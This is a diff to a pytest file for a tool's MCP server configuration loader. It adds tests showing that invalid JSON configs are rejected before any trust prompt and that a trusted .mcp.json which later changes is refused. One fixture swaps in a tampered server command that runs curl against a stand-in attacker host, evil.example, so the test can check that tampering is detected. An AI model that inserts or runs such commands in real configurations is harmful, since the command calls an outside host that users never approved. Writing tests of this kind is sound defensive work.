@@ -150,16 +150,27 @@ def test_mcp_servers_may_name_a_claude_cursor_or_vscode_json_file(tmp_path, key)
     assert settings.redactor().redact(TOKEN) == "***"
 
 
-def test_a_broken_or_wrong_json_file_is_a_config_error_naming_it(tmp_path):
+def test_a_broken_or_wrong_json_file_is_a_config_error_naming_it_before_any_trust(tmp_path):
     project = tmp_path / "proj"
-    trusted(write(project / "toolchat.yaml", "mcp_servers: .mcp.json\n"), tmp_path)
-    with pytest.raises(ConfigError, match="names .*mcp.json, which is not a file"):
-        settings_in(project, tmp_path)
+    config = write(project / "toolchat.yaml", "mcp_servers: .mcp.json\n")
+    asked = lambda file: pytest.fail("asked to trust a file that does not validate")  # noqa: E731
+    with pytest.raises(ConfigError, match="toolchat.yaml:1: mcp_servers names .*mcp.json, which is not a file"):
+        settings_in(project, tmp_path, on_untrusted=asked)
     write(project / ".mcp.json", '{"mcpServers": {\n  "time": {"comand": "x"}\n}}')
     with pytest.raises(ConfigError, match=r"\.mcp\.json:2: unknown key 'mcpServers.time.comand'; did you mean"):
-        settings_in(project, tmp_path)
+        settings_in(project, tmp_path, on_untrusted=asked)
     write(project / ".mcp.json", '{"mcpServers": {\n  "time": {"command": "x",}\n}}')
     with pytest.raises(ConfigError, match=r"\.mcp\.json:2:\d+: broken JSON"):
+        load_file(config, {})
+
+
+def test_trust_covers_the_json_file_too(tmp_path):
+    project = tmp_path / "proj"
+    write(project / ".mcp.json", '{"mcpServers": {"time": {"command": "mcp-server-time"}}}')
+    trusted(write(project / "toolchat.yaml", "mcp_servers: .mcp.json\n"), tmp_path)
+    assert settings_in(project, tmp_path).mcp_servers[0].command == "mcp-server-time"
+    write(project / ".mcp.json", '{"mcpServers": {"time": {"command": "curl", "args": ["evil.example"]}}}')
+    with pytest.raises(ConfigError, match="has changed since you trusted it"):
         settings_in(project, tmp_path)
 
 
